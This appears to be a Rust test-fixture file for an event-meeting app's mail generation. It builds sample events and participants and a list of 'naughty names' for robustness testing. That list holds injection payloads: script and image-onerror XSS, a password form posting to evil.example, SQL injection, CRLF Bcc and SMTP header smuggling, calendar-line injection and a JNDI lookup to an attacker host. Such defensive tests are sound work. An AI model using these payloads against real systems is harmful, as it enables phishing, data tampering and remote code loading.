@@ -1,0 +1,265 @@
+//! An event, two people and their meetings, and every mail that can be made of them.
+
+use chrono::{DateTime, Duration, NaiveDate, TimeZone, Utc};
+use rendezvous::config::BaseUrl;
+use rendezvous::domain::account::Account;
+use rendezvous::domain::event::{CalendarMode, Event, EventState, Venue};
+use rendezvous::domain::ids::{AccountId, EventId, MeetingId, ParticipantId, SlotId};
+use rendezvous::domain::lang::{Lang, Localised};
+use rendezvous::domain::mail::{MailKind, OutgoingMail};
+use rendezvous::domain::meeting::{Meeting, MeetingState};
+use rendezvous::domain::organisation::OrganisationType;
+use rendezvous::domain::participant::{Attendance, Participant, Person, Profile, Source};
+use rendezvous::domain::text::Email;
+use rendezvous::mail::MailContext;
+use rendezvous::mail::messages::{self, ScheduleNews, ScheduledMeeting, describe};
+use rendezvous::words::Words;
+
+pub const FROM: &str = "events@rendezvous.example";
+pub const CONTACT: &str = "team@cluster.example";
+pub const READER: &str = "ada@engines.example";
+pub const PARTNER: &str = "hidden.address@partner.example";
+pub const LINK: &str = "https://rendezvous.example/my/Zm9vYmFyYmF6cXV4Zm9vYmFyYmF6cXV4Zm9vYmFyYmF6cXV4";
+
+/// What the mails of a test are made of.
+pub struct Sample {
+    pub event: Event,
+    pub reader: Participant,
+    pub partner: Participant,
+    pub meetings: Vec<Meeting>,
+}
+
+pub fn now() -> DateTime<Utc> {
+    Utc.with_ymd_and_hms(2020, 11, 2, 8, 30, 0).unwrap()
+}
+
+pub fn email(text: &str) -> Email {
+    Email::parse(text).unwrap()
+}
+
+impl Sample {
+    /// An event at a place, an English name, and a reader of this language.
+    pub fn in_language(lang: Lang) -> Sample {
+        let mut reader = participant("1", "Ada Lovelace", "Analytical Engines Ltd", "GB", READER);
+        reader.profile.lang = lang;
+        let partner =
+            participant("2", "Jérôme Müller-Ångström", "Cluster für Wasser, Luft & Boden", "AT", PARTNER);
+        let start = Utc.with_ymd_and_hms(2020, 11, 11, 13, 20, 0).unwrap();
+        let meetings = vec![
+            meeting("m1", &reader, &partner, start, 7),
+            meeting("m2", &partner, &reader, start + Duration::hours(20), 12),
+        ];
+        Sample { event: event(), reader, partner, meetings }
+    }
+
+    /// The reader's meetings with their partner.
+    pub fn scheduled(&self) -> Vec<ScheduledMeeting<'_>> {
+        self.meetings.iter().map(|meeting| ScheduledMeeting { meeting, partner: &self.partner }).collect()
+    }
+
+    /// One mail of each kind, in the order of [`MailKind::ALL`].
+    pub fn mails(&self) -> Vec<OutgoingMail> {
+        MailKind::ALL.into_iter().map(|kind| self.mail(kind)).collect()
+    }
+
+    /// One mail of a kind.
+    pub fn mail(&self, kind: MailKind) -> OutgoingMail {
+        let (base_url, from) = (BaseUrl::parse("https://rendezvous.example").unwrap(), email(FROM));
+        let message_id =
+            format!("0193-{}-{}@rendezvous.example", kind.code().replace('_', "-"), self.reader.profile.lang);
+        let context = MailContext { base_url: &base_url, from: &from, now: now(), message_id };
+        let (event, reader) = (&self.event, &self.reader);
+        let scheduled = self.scheduled();
+        let made = match kind {
+            MailKind::Confirm => messages::confirm(&context, event, reader, LINK, 48),
+            MailKind::Schedule => {
+                messages::schedule(&context, &ScheduleNews::First, event, reader, LINK, &scheduled)
+            }
+            MailKind::ScheduleChanged => {
+                let words = Words::of(reader.profile.lang);
+                let said: Vec<String> = scheduled.iter().map(|one| describe(words, event, one)).collect();
+                let news =
+                    ScheduleNews::Changed { added: said.clone(), moved: said.clone(), cancelled: said };
+                messages::schedule(&context, &news, event, reader, LINK, &scheduled)
+            }
+            MailKind::Invitation => messages::invitation(&context, event, reader, LINK, &scheduled[0]),
+            MailKind::MeetingCancelled => {
+                messages::meeting_cancelled(&context, event, reader, LINK, &scheduled[0])
+            }
+            MailKind::NewPassword => {
+                let account = Account {
+                    id: AccountId("a1".into()),
+                    email: READER.into(),
+                    name: reader.profile.person.name.clone(),
+                    is_admin: false,
+                    lang: reader.profile.lang,
+                    created_at: now(),
+                };
+                messages::new_password(&context, &account, LINK, 24)
+            }
+            standing => {
+                let place = (standing == MailKind::WaitingList).then_some(17);
+                messages::standing(&context, standing, event, reader, "KX7Q2MNP", LINK, place)
+            }
+        };
+        made.unwrap()
+    }
+
+    /// The same at an event in video rooms.
+    pub fn online(mut self) -> Sample {
+        self.event.venue = Venue::Online { room_link: "https://meet.example/ecc-{meeting}".into() };
+        for meeting in &mut self.meetings {
+            meeting.table = None;
+        }
+        self
+    }
+
+    /// The same at an event that sends one calendar file.
+    pub fn with_file(mut self) -> Sample {
+        self.event.calendar_mode = CalendarMode::File;
+        self
+    }
+
+    /// Puts a text into every field that a person types and a mail shows.
+    pub fn named(mut self, name: &str) -> Sample {
+        for person in [&mut self.reader.profile.person, &mut self.partner.profile.person] {
+            person.name = name.into();
+            person.organisation = name.into();
+            person.city = name.into();
+        }
+        self.event.name = Localised::one(Lang::En, name);
+        self.event.organiser_name = name.into();
+        self.event.venue = Venue::Onsite { place: name.into(), tables: 20 };
+        self
+    }
+}
+
+fn event() -> Event {
+    Event {
+        id: EventId("e1".into()),
+        slug: "ecc-2020".into(),
+        state: EventState::Open,
+        languages: vec![Lang::En],
+        name: Localised::one(Lang::En, "European Cluster Conference 2020")
+            .with(Lang::De, "Europäische Clusterkonferenz 2020")
+            .with(Lang::Fr, "Conférence européenne des clusters 2020"),
+        summary: Localised::default(),
+        description: Localised::default(),
+        organiser_name: "Ministerium für Wirtschaft & Énergie".into(),
+        contact_email: CONTACT.into(),
+        starts_on: NaiveDate::from_ymd_opt(2020, 11, 11).unwrap(),
+        ends_on: NaiveDate::from_ymd_opt(2020, 11, 12).unwrap(),
+        time_zone: chrono_tz::Europe::Berlin,
+        venue: Venue::Onsite { place: "Kongresshalle, Saal 2".into(), tables: 20 },
+        capacity: Some(250),
+        approval: false,
+        same_country: true,
+        calendar_mode: CalendarMode::Invitation,
+        wished_minimum: 3,
+        accent: "#0b5563".into(),
+        seats_taken: 2,
+    }
+}
+
+fn participant(id: &str, name: &str, organisation: &str, country: &str, address: &str) -> Participant {
+    Participant {
+        id: ParticipantId(id.into()),
+        event: EventId("e1".into()),
+        profile: Profile {
+            person: Person {
+                name: name.into(),
+                email: Some(email(address)),
+                organisation: organisation.into(),
+                organisation_type: OrganisationType::Sme,
+                country: country.into(),
+                city: "Wien".into(),
+                participant_type: None,
+                languages: vec!["en".into()],
+            },
+            interests: vec![],
+            attendance: Attendance { blocks: vec![], sessions: vec![], max_meetings: 10 },
+            listed: true,
+            lang: Lang::En,
+        },
+        source: Source::Form,
+        created_at: now(),
+        updated_at: now(),
+    }
+}
+
+fn meeting(id: &str, a: &Participant, b: &Participant, start: DateTime<Utc>, table: u32) -> Meeting {
+    Meeting {
+        id: MeetingId(id.into()),
+        event: EventId("e1".into()),
+        round: None,
+        a: a.id.clone(),
+        b: b.id.clone(),
+        slot: SlotId(id.into()),
+        starts_at: start,
+        ends_at: start + Duration::minutes(20),
+        table: Some(table),
+        state: MeetingState::Planned,
+        terms: vec![],
+        sequence: 0,
+        updated_at: now() - Duration::hours(1),
+    }
+}
+
+/// Names that break programs: markup, line breaks, calendar and header lines, other scripts, directions, length.
+pub fn naughty_names() -> Vec<String> {
+    let fixed = [
+        "<script>alert(1)</script>",
+        "<form action=https://evil.example><input name=password>",
+        "<base href=https://evil.example/><style>*{display:none}</style>",
+        "\"><img src=x onerror=alert(1)>",
+        "&lt;img src=x onerror=alert(1)&gt;",
+        "Robert'); DROP TABLE outbox;--",
+        "Ada\r\nBcc: everyone@evil.example",
+        "Ada\nBcc: everyone@evil.example\n\nBody",
+        "Ada\rX-Header: 1",
+        "Ada\r\n.\r\nMAIL FROM:<evil@evil.example>",
+        ".",
+        "..",
+        ". leading dot",
+        "Ada\0Lovelace",
+        "Ada\u{2028}END:VEVENT\u{2029}BEGIN:VEVENT",
+        "END:VEVENT\r\nATTACH:https://evil.example/x\r\nBEGIN:VEVENT",
+        "\r\nATTENDEE:mailto:everyone@evil.example",
+        "Comma, Semicolon; Colon: Back\\slash \\n \\N",
+        "ends with a backslash\\",
+        "\"quoted\"",
+        "\"; RSVP=TRUE:mailto:x@evil.example",
+        "quote \" inside",
+        "o'Neill-Düßeldörfer",
+        "{ $event } {name} {{ letter.subject }} {% include %} ${jndi:ldap://evil.example/a}",
+        "{meeting}",
+        "=?utf-8?q?Bcc=3A?= =?utf-8?b?QmNjOg==?=",
+        "=0D=0ABcc: x",
+        "a@b.example <evil@evil.example>, other@evil.example",
+        "Name <evil@evil.example>",
+        "(comment) name",
+        "Łukasz Żółć",
+        "Ελένη Παπαδοπούλου",
+        "Ольга Шевченко",
+        "שלום עולם",
+        "محمد علي",
+        "李小龍 ライ",
+        "👩🏽‍💻 Zoë 🏳️‍🌈",
+        "e\u{301}le\u{300}ve",
+        "\u{202e}moc.live\u{202c}",
+        "\u{feff}BOM",
+        "x\u{200b}y\u{ad}z",
+        "tab\there",
+        "   spaces   around   ",
+        "007",
+        "null",
+        "-1",
+        "",
+    ];
+    let mut names: Vec<String> = fixed.into_iter().map(String::from).collect();
+    names.push("W".repeat(10_000));
+    names.push("ß".repeat(10_000));
+    names.push("long words and spaces ".repeat(500));
+    names.push(format!("{}\u{1F600}", "x".repeat(66)));
+    names
+}
